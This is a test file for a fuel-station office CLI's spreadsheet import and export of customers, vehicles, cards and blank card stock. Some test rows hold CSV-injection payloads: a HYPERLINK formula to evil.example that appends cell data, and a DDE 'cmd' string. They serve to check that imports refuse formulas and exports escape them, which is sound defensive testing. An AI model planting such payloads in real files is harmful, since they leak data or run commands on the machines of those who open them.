"""Import and export of customers, vehicles and cards, and the blank card stock (issue
12 #3 stock, #7), through the real CLI on SQLite and PostgreSQL: a messy spreadsheet's
dry run lists every problem by line and stores nothing, a clean one stores every row
with its audit entries, one bad row stores nothing, 1C's Windows-1251 CSV with ``;``,
the column mapping, exports that a spreadsheet will not run, the round trip into a
second office, and blank cards from the supplier's file issued from stock."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import Workbook, load_workbook

from cli import main
from core.config import load_config_file
from office.store import open_office
from tests.office_fixtures import set_office_database


def run(*args: str, ok: bool = True) -> Result:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    if ok:
        assert result.exit_code == 0, result.output
    return result


def out(*args: str, ok: bool = True) -> Any:
    return json.loads(run(*args, "--json", ok=ok).stdout)


@pytest.fixture
def office(office_env: Path, sample_store_file: Path) -> Path:
    run("office", "init")
    run("office", "cards", "import", str(sample_store_file))
    return office_env


def query(config_file: Path, sql: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    conn = open_office(load_config_file(config_file))
    try:
        return [tuple(r) for r in conn.execute(sql, params)]
    finally:
        conn.close()


def counts(config_file: Path) -> dict[str, int]:
    return {t: query(config_file, f"SELECT COUNT(*) FROM {t}")[0][0]
            for t in ("customers", "vehicles", "cards", "card_stock", "audit_entries",
                      "cm_versions", "group_members", "id_counters")}


def xlsx(path: Path, rows: list[list[Any]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def lines_of(report: dict[str, Any], key: str = "errors") -> dict[int, list[str]]:
    by_line: dict[int, list[str]] = {}
    for problem in report[key]:
        by_line.setdefault(problem["line"], []).append(problem["message"])
    return by_line


# -- a messy spreadsheet ---------------------------------------------------------------------

MESSY: list[list[Any]] = [
    ["ФИО", "Телефон", "E-mail", "Дата рождения", "Категория", "Организация"],
    ["Иван Петров", "+7 (916) 123-45-67", "ivan@example.ru", "01.05.1980", "vip", "ООО Ромашка"],
    ["Пётр Сидоров", "+7 916 555 00 11", "", "31.02.1980", "", ""],                  # 3: bad date
    ["Мария Петрова", "+7 (916) 123-45-67", "", "", "regular", ""],              # 4: same phone
    [None, None, None, None, None, None],                                        # 5: empty
    ['=HYPERLINK("http://evil.example/?"&A2,"click")', "", "", "", "", ""],      # 6: formula
    ["Анна", "+cmd|' /C calc'!A0", "", "", "", ""],                              # 7: DDE
    ["Олег", "", "", "", "gold", ""],                                            # 8: category
    ["Şükrü Yılmaz", "", "", "03/04/1980", "", ""],                              # 9: ambiguous
    [None, "+7 916 000 00 00", None, None, None, "only an ignored column"],      # 10: no name
    ["Nguyễn Văn An", "0912 345 678", "AN@EXAMPLE.VN", datetime(1975, 3, 9), "", ""],  # 11
    ["Bob", "call me", "", "", "", ""],                                          # 12: phone
    ["Eve", "", "", "25/04/1990", "", "x"],                                      # 13: fine
]


def test_a_messy_spreadsheet_is_refused_by_line_and_nothing_is_stored(office: Path,
                                                                       tmp_path: Path) -> None:
    path = xlsx(tmp_path / "customers.xlsx", MESSY)
    before = counts(office)
    report = out("office", "customers", "import", str(path), "--dry-run", ok=False)
    assert report["dry_run"] is True and report["stored"] is False
    errors = lines_of(report)
    assert sorted(errors) == [3, 6, 7, 8, 9, 10, 12]
    assert "31.02.1980 is not a date" in errors[3][0]
    assert "spreadsheet formula" in errors[6][0] and "HYPERLINK" in errors[6][0]
    assert "spreadsheet formula" in errors[7][0] and "cmd|" in errors[7][0]
    assert "category 'gold' is not in the list" in errors[8][0]
    assert "03/04/1980 is ambiguous (1980-04-03 or 1980-03-04?)" in errors[9][0]
    assert errors[10] == ["name is required"]
    assert "is not a phone number" in errors[12][0]
    # The duplicate phone is a warning naming both lines, not an error (families).
    assert lines_of(report, "warnings") == {4: ["phone +79161234567 is also on line 2"]}
    assert report["ignored_columns"] == ["Организация"]
    assert report["columns"] == {"ФИО": "name", "Телефон": "phones", "E-mail": "emails",
                                 "Дата рождения": "birthday", "Категория": "category"}
    # The empty row 5 is skipped silently; rows 2, 4, 11 and 13 were fine.
    assert report["rows"] == 11 and len(report["added"]) == 4
    assert counts(office) == before
    # Without --dry-run: the same problems, exit status 1, and still nothing stored.
    result = run("office", "customers", "import", str(path), ok=False)
    assert result.exit_code == 1
    assert "line 6: name is a spreadsheet formula" in result.output
    assert "7 bad rows (7 problems); nothing stored" in result.output
    assert "Traceback" not in result.output
    assert counts(office) == before
    assert not query(office, "SELECT 1 FROM customers WHERE name LIKE '%HYPERLINK%'")


def test_one_bad_row_stores_nothing_and_the_mended_file_stores_every_row(office: Path,
                                                                        tmp_path: Path) -> None:
    rows = [["name", "phones", "birthday", "region"],
            ["Ayşe Demir", "+90 532 111 22 33", "1985-06-15", "İstanbul"],
            ["Mehmet Kaya", "+90 532 111 22 33", "15.06.1986", "Ankara"],
            ["Hùng", "", "1990-13-01", ""]]
    bad = xlsx(tmp_path / "bad.xlsx", rows)
    before = counts(office)
    result = run("office", "customers", "import", str(bad), ok=False)
    assert result.exit_code == 1 and "line 4: birthday 1990-13-01 is not a date" in result.output
    assert counts(office) == before
    rows[3][2] = "01/13/1990"  # month/day, only one reading is a date
    report = out("office", "customers", "import", str(xlsx(tmp_path / "good.xlsx", rows)))
    assert report["stored"] is True and report["errors"] == []
    assert report["added"] == ["C-000001", "C-000002", "C-000003"]
    assert lines_of(report, "warnings") == {3: ["phone +905321112233 is also on line 2"]}
    stored = query(office, "SELECT customer_id, name, phones, birthday, region FROM customers "
                           "WHERE customer_id LIKE 'C-0%' ORDER BY customer_id")
    assert stored == [("C-000001", "Ayşe Demir", '["+905321112233"]', "1985-06-15", "İstanbul"),
                      ("C-000002", "Mehmet Kaya", '["+905321112233"]', "1986-06-15", "Ankara"),
                      ("C-000003", "Hùng", "[]", "1990-01-13", "")]
    # Each row is in the audit trail as the CLI's own add, and the import once.
    adds = query(office, "SELECT object_id, via FROM audit_entries WHERE action = "
                         "'customer.add' ORDER BY id")
    assert adds == [("C-000001", "cli"), ("C-000002", "cli"), ("C-000003", "cli")]
    summary = query(office, "SELECT object_id, new FROM audit_entries WHERE action = "
                            "'customers.import'")
    assert summary[0][0] == "good.xlsx" and json.loads(summary[0][1])["added"] == 3


def test_1c_windows_1251_csv_with_semicolons_and_a_column_mapping(office: Path,
                                                                  tmp_path: Path) -> None:
    text = ("Код;Контрагент;Тел;Юр./физ. лицо;Дата рождения;Основной менеджер\r\n"
            "000000101;ООО \"Ромашка\";+7 (495) 111-22-33;Юридическое лицо;;Смирнов\r\n"
            ";;;;;\r\n"
            "000000102;Иванов Иван Иванович;8 916 123 45 67, +7 916 765 43 21;"
            "Физическое лицо;01.05.1980 0:00:00;Смирнов\r\n")
    path = tmp_path / "kontragenty.csv"
    path.write_bytes(text.encode("cp1251"))
    mapping = tmp_path / "1c.map"
    mapping.write_text("# 1C counterparties\nКонтрагент=name\n\nОсновной менеджер=-\n",
                       encoding="utf-8")
    report = out("office", "customers", "import", str(path), "--map", "Тел=phones",
                 "--map-file", str(mapping))
    assert report["errors"] == [] and report["ignored_columns"] == ["Основной менеджер"]
    assert report["columns"]["Код"] == "customer_id"
    assert report["added"] == ["000000101", "000000102"]
    company = out("office", "customers", "show", "000000101")
    person = out("office", "customers", "show", "000000102")
    assert (company["name"], company["kind"], company["phones"]) == (
        'ООО "Ромашка"', "company", ["+74951112233"])
    assert (person["name"], person["kind"], person["birthday"]) == (
        "Иванов Иван Иванович", "person", "1980-05-01")
    assert person["phones"] == ["+79167654321", "89161234567"]
    # Read again, the file changes nothing; a changed cell changes that customer only.
    again = out("office", "customers", "import", str(path), "--map", "Тел=phones",
                "--map-file", str(mapping))
    assert again["unchanged"] == ["000000101", "000000102"] and again["added"] == []
    path.write_bytes(text.replace("Смирнов\r\n000000102", "Смирнов\r\n000000102")
                     .replace("Иванов Иван Иванович", "Иванов Иван").encode("cp1251"))
    changed = out("office", "customers", "import", str(path), "--map", "Тел=phones",
                  "--map-file", str(mapping))
    assert changed["changed"] == ["000000102"] and changed["unchanged"] == ["000000101"]
    assert query(office, "SELECT old, new FROM audit_entries WHERE action = "
                         "'customer.change' AND object_id = '000000102'")[0][1].count(
        "Иванов Иван") == 1


def test_a_mapping_naming_a_missing_column_or_field_is_refused(office: Path,
                                                               tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("Name,Phone\nA,+7 916 123 45 67\n", encoding="utf-8")
    result = run("office", "customers", "import", str(path), "--map", "Тел=phones", ok=False)
    assert result.exit_code == 1 and "column 'тел' the file does not have" in result.output
    result = run("office", "customers", "import", str(path), "--map", "Name=nickname",
                 ok=False)
    assert "'nickname' is not a field" in result.output
    path.write_text("Phone,Mobile\n+7 916 123 45 67,\n", encoding="utf-8")
    result = run("office", "customers", "import", str(path), ok=False)
    assert "no column of the file maps to name or customer_id" in result.output


def test_duplicates_against_stored_customers_are_warnings(office: Path, tmp_path: Path
                                                          ) -> None:
    run("office", "customers", "add", "--name", "Anna", "--phone", "+7 916 111 22 33",
        "--email", "family@example.com", "--customer-id", "C-A")
    path = tmp_path / "family.csv"
    path.write_text("name\tphones\temails\n"
                    "Boris\t+7 916 111-22-33\tFamily@Example.com\n", encoding="utf-8")
    report = out("office", "customers", "import", str(path))
    assert report["stored"] is True
    assert lines_of(report, "warnings") == {2: ["phone +79161112233 is also customer C-A's",
                                                "e-mail family@example.com is also customer "
                                                "C-A's"]}


def test_vehicles_import_updates_by_id_and_warns_of_a_plate_twice(office: Path,
                                                                  tmp_path: Path) -> None:
    run("office", "vehicles", "add", "--plate", "34 ABC 123", "--vehicle-id", "V-1")
    path = tmp_path / "araclar.csv"
    path.write_text("Araç kodu;Plaka;Müşteri kodu;Araç tipi;Yakıt;tank_capacity_ml\n"
                    "V-1;34 ABC 123;C-1;TRUCK;DT;400000\n"
                    ";34abc123;;car;;\n"
                    ";06 XYZ 9;C-404;car;;\n"
                    ";07 KLM 1;;boat;PETROL;-1\n", encoding="utf-8")
    errors = lines_of(out("office", "vehicles", "import", str(path), ok=False))
    assert errors == {4: ["customer C-404 does not exist"],
                      5: [errors[5][0]]}
    assert errors[5][0].startswith("vehicle_type must be one of car, van, truck")
    path.write_text("\n".join(path.read_text().splitlines()[:3]) + "\n", encoding="utf-8")
    report = out("office", "vehicles", "import", str(path))
    assert report["changed"] == ["V-1"] and report["added"] == ["V-000001"]
    assert lines_of(report, "warnings") == {3: ["plate 34ABC123 is also on line 2"]}
    assert query(office, "SELECT vehicle_type, customer_id, fuel, tank_capacity_ml FROM "
                         "vehicles WHERE vehicle_id = 'V-1'") == [("truck", "C-1", "DT", 400000)]
    # A card-store file is still a card-store file, with nothing of the spreadsheet's.
    json_file = tmp_path / "store.json"
    json_file.write_text("{}", encoding="utf-8")
    result = run("office", "cards", "import", str(json_file), "--dry-run", ok=False)
    assert result.exit_code == 2 and "are for .csv and .xlsx files" in result.output
    wrong = tmp_path / "cards.txt"
    wrong.write_text("x", encoding="utf-8")
    result = run("office", "cards", "import", str(wrong), ok=False)
    assert result.exit_code == 1 and "must be .csv or .xlsx" in result.output


# -- exports -------------------------------------------------------------------------------

def test_exports_escape_formulas_and_the_import_refuses_them(office: Path,
                                                            tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example","x")'
    run("office", "customers", "add", "--name", evil, "--customer-id", "C-EVIL",
        "--notes", "+cmd|' /C calc'!A0", "--phone", "+7 916 123 45 67")
    run("office", "customers", "export", str(tmp_path / "c.csv"))
    raw = (tmp_path / "c.csv").read_text(encoding="utf-8-sig")
    rows = {r["customer_id"]: r for r in csv.DictReader(raw.splitlines())}
    assert rows["C-EVIL"]["name"] == "'" + evil
    assert rows["C-EVIL"]["notes"] == "'+cmd|' /C calc'!A0"
    assert rows["C-EVIL"]["phones"] == "'+79161234567"
    assert list(rows["C-EVIL"]) == ["customer_id", "kind", "name", "phones", "emails",
                                    "addresses", "birthday", "company", "category",
                                    "payment_terms", "credit_limit", "preferred_channel",
                                    "notes", "region", "occupation", "groups"]
    run("office", "customers", "export", str(tmp_path / "c.xlsx"))
    sheet = load_workbook(tmp_path / "c.xlsx").worksheets[0]
    cells = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    name = cells["C-EVIL"][2]
    assert name.value == evil and name.data_type == "s"  # a text, never a formula
    # Reading the export back refuses what a spreadsheet would run, by line.
    for suffix in ("csv", "xlsx"):
        report = out("office", "customers", "import", str(tmp_path / f"c.{suffix}"),
                     "--dry-run", ok=False)
        bad = lines_of(report)
        assert len(bad) == 1 and all("spreadsheet formula" in m for m in
                                     next(iter(bad.values())))


def _records(config_file: Path) -> dict[str, Any]:
    customers = query(config_file, "SELECT customer_id, kind, name, phones, emails, addresses, "
                                   "birthday, company_id, category, payment_terms, "
                                   "credit_limit, preferred_channel, notes, region, "
                                   "occupation FROM customers ORDER BY customer_id")
    return {
        "customers": customers,
        "groups": query(config_file, "SELECT customer_id, group_id FROM group_members "
                                     "ORDER BY customer_id, group_id"),
        "vehicles": query(config_file, "SELECT vehicle_id, plate, customer_id, vehicle_type, "
                                       "fuel, tank_capacity_ml, notes FROM vehicles "
                                       "ORDER BY vehicle_id"),
        "cards": query(config_file, "SELECT card_id, kind, status, customer_id, vehicle_id, "
                                    "driver, pan, rfid_uid, expires, products FROM cards "
                                    "ORDER BY card_id"),
    }


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_an_export_read_back_gives_the_same_records(
        office: Path, tmp_path: Path, office_databases: Callable[[], str],
        monkeypatch: pytest.MonkeyPatch, sample_store_file: Path, office_database: str,
        suffix: str) -> None:
    run("office", "customers", "add", "--name", "Volga Fleet", "--kind", "company",
        "--customer-id", "C-F", "--payment-terms", "credit", "--credit-limit", "5000000",
        "--group", "G-FLEET")
    run("office", "customers", "add", "--name", "Şükrü Yılmaz", "--company", "C-F",
        "--phone", "+90 532 123 45 67", "--phone", "0212 555 44 33", "--email",
        "s@example.com", "--address", "Bağdat Cd. 5, Kadıköy", "--address", "Moda, İstanbul",
        "--birthday", "1980-05-01", "--category", "vip", "--notes", "- call first\n=2+3",
        "--region", "İstanbul", "--occupation", "driver", "--preferred-channel",
        "whatsapp", "--customer-id", "C-S")
    run("office", "vehicles", "add", "--plate", "34 ABC 123", "--customer", "C-F",
        "--type", "truck", "--fuel", "DT", "--tank", "400000", "--vehicle-id", "V-1")
    run("office", "cards", "issue", "--customer", "C-S", "--kind", "rfid", "--uid",
        "04:a1:b2:c3", "--vehicle", "V-1", "--driver", "Şükrü", "--product", "DT",
        "--expires", "2030-12-31", "--card-id", "K-S")
    run("office", "cards", "issue", "--customer", "C-F", "--kind", "magstripe", "--pan",
        "7800 1111 2222 3333")
    run("office", "cards", "lost", "7800111122223333")
    exported = {}
    for what in ("customers", "vehicles", "cards"):
        exported[what] = tmp_path / f"{what}.{suffix}"
        done = out("office", what, "export", str(exported[what]))
        assert done["rows"] >= 2
    records = _records(office)
    # A second office with the sample card store (as the first: its products, groups,
    # customers and cards) reads the three files back: the same records.
    second = tmp_path / "second"
    second.mkdir()
    config2 = second / "config.toml"
    config2.write_text(office.read_text().replace(f'database = "{office_database}"',
                                                  'database = ""'))
    set_office_database(config2, office_databases())
    monkeypatch.setenv("FORECOURT_CONFIG", str(config2))
    monkeypatch.chdir(second)
    run("office", "init")
    run("office", "cards", "import", str(sample_store_file))  # its products, groups
    for what in ("customers", "vehicles", "cards"):
        report = out("office", what, "import", str(exported[what]))
        assert report["errors"] == [], report
    assert _records(config2) == records


def test_the_cards_import_issues_one_version_and_takes_blanks_out_of_stock(
        office: Path, tmp_path: Path) -> None:
    run("office", "customers", "add", "--name", "Fleet", "--customer-id", "C-9")
    stock = tmp_path / "supplier.csv"
    stock.write_text("Тип карты;UID;Номер карты\n"
                     "RFID;05 A1 B2 C3 D4 E5 F6;\n"
                     "rfid;05:a1:b2:c3:d4:e5:f7;\n"
                     "magstripe;;7800 2222 0000 0001\n", encoding="utf-8")
    assert out("office", "cards", "stock", "import", str(stock))["added"] == [
        "05A1B2C3D4E5F6", "05A1B2C3D4E5F7", "7800222200000001"]
    latest = query(office, "SELECT MAX(version) FROM cm_versions")[0][0]
    cards = xlsx(tmp_path / "cards.xlsx", [
        ["card_id", "kind", "customer", "rfid_uid", "pan", "expires", "status"],
        ["K-1", "rfid", "C-9", "05a1b2c3d4e5f7", None, date(2030, 1, 31), None],
        [None, "magstripe", "C-9", None, "7800-2222-0000-0009", "31.12.2029", "blocked"],
    ])
    report = out("office", "cards", "import", str(cards))
    assert report["added"] == ["K-1", "7800222200000009"]
    assert report["versions"] == [latest + 1]
    ops = json.loads(query(office, "SELECT ops FROM cm_versions WHERE version = ?",
                           (latest + 1,))[0][0])
    docs = {op["card"]["card_id"]: op["card"] for op in ops if op["op"] == "card"}
    assert docs["K-1"]["rfid_uid"] == "05A1B2C3D4E5F7" and docs["K-1"]["expires"] == "2030-01-31"
    assert docs["7800222200000009"]["status"] == "blocked"
    assert query(office, "SELECT action FROM audit_entries WHERE object_id = "
                         "'7800222200000009' ORDER BY id") == [("card.issue",), ("card.block",)]
    # The UID of K-1 was a free blank: it is out of stock now.
    assert query(office, "SELECT issued_as FROM card_stock WHERE rfid_uid = "
                         "'05A1B2C3D4E5F7'") == [("K-1",)]
    # The same file again changes nothing; a changed card is refused by line.
    again = out("office", "cards", "import", str(cards))
    assert again["unchanged"] == ["K-1", "7800222200000009"] and again["versions"] == []
    cards = xlsx(tmp_path / "cards.xlsx", [
        ["card_id", "kind", "customer", "rfid_uid"],
        ["K-1", "rfid", "C-1", "05a1b2c3d4e5f7"],
        ["K-2", "smart", "C-404", None],
        ["K-3", "magstripe", "C-9", None],
    ])
    errors = lines_of(out("office", "cards", "import", str(cards), ok=False))
    assert "card K-1 is already issued with customer 'C-9', not 'C-1'" in errors[2][0]
    assert errors[3] == ["customer C-404 does not exist"]
    assert errors[4] == ["a magnetic-stripe card needs a pan"]


# -- blank card stock ------------------------------------------------------------------------

def test_stock_import_refuses_duplicates_by_line_and_issue_takes_the_oldest_blank(
        office: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("kind,pan,uid\n"
                   "rfid,,04A1B2C3\n"
                   "rfid,,04:a1:b2:c3\n"             # 3: the same UID written otherwise
                   "magstripe,7800001234567890,\n"   # 4: a sample card's PAN
                   "smart,,\n"                       # 5: no identifier
                   "rfid,,xyz\n"                     # 6: not hex
                   "\n"
                   "plastic,,04A1B2C4\n", encoding="utf-8")  # 8: kind
    before = counts(office)
    report = out("office", "cards", "stock", "import", str(bad), "--dry-run", ok=False)
    errors = lines_of(report)
    assert errors == {3: ["rfid_uid 04A1B2C3 is also on line 2"],
                      4: ["pan 7800001234567890 is already card 7800001234567890's"],
                      5: ["a blank card needs a pan or an rfid_uid"],
                      6: ["rfid_uid 'xyz' must be 8-20 hex digits"],
                      8: [errors[8][0]]}
    assert errors[8][0].startswith("kind must be one of rfid, magstripe, smart, digital")
    assert counts(office) == before
    good = tmp_path / "good.csv"
    good.write_text("kind,uid,batch\nrfid,04A1B2C3,\nrfid,04A1B2C5,\n"
                    "smart,04A1B2C6,\n", encoding="utf-8")
    assert out("office", "cards", "stock", "import", str(good), "--batch", "2026-05 lot 1"
               )["stored"] is True
    assert len(query(office, "SELECT 1 FROM audit_entries WHERE action = 'stock.add'")) == 3
    again = out("office", "cards", "stock", "import", str(good), ok=False)
    assert lines_of(again)[2] == ["rfid_uid 04A1B2C3 is already in stock (batch 2026-05 lot 1)"]
    more = tmp_path / "more.csv"
    more.write_text("kind,uid\nrfid,04A1B2C7\n", encoding="utf-8")
    run("office", "cards", "stock", "import", str(more))
    assert [(r["kind"], r["batch"], r["free"], r["issued"])
            for r in out("office", "cards", "stock", "list")] == [
        ("rfid", "2026-05 lot 1", 2, 0), ("rfid", "more.csv", 1, 0),
        ("smart", "2026-05 lot 1", 1, 0)]
    run("office", "customers", "add", "--name", "Anna", "--customer-id", "C-7")
    first = out("office", "cards", "issue", "--customer", "C-7", "--kind", "rfid",
                "--from-stock")
    second = out("office", "cards", "issue", "--customer", "C-7", "--kind", "rfid",
                 "--from-stock")
    assert (first["rfid_uid"], second["rfid_uid"]) == ("04A1B2C3", "04A1B2C5")
    assert query(office, "SELECT detail FROM audit_entries WHERE action = 'card.issue' "
                         "AND object_id = ?", (first["card_id"],)) == [
        ("from stock batch 2026-05 lot 1",)]
    listed = {(r["kind"], r["batch"]): (r["free"], r["issued"])
              for r in out("office", "cards", "stock", "list")}
    assert listed == {("rfid", "2026-05 lot 1"): (0, 2), ("rfid", "more.csv"): (1, 0),
                      ("smart", "2026-05 lot 1"): (1, 0)}
    third = out("office", "cards", "issue", "--customer", "C-7", "--kind", "rfid",
                "--from-stock")
    assert third["rfid_uid"] == "04A1B2C7"
    empty = run("office", "cards", "issue", "--customer", "C-7", "--kind", "rfid",
                "--from-stock", ok=False)
    assert empty.exit_code == 1 and "no blank rfid card in stock" in empty.output
    human = run("office", "cards", "stock", "list").output
    assert "free: rfid 0, smart 1" in human

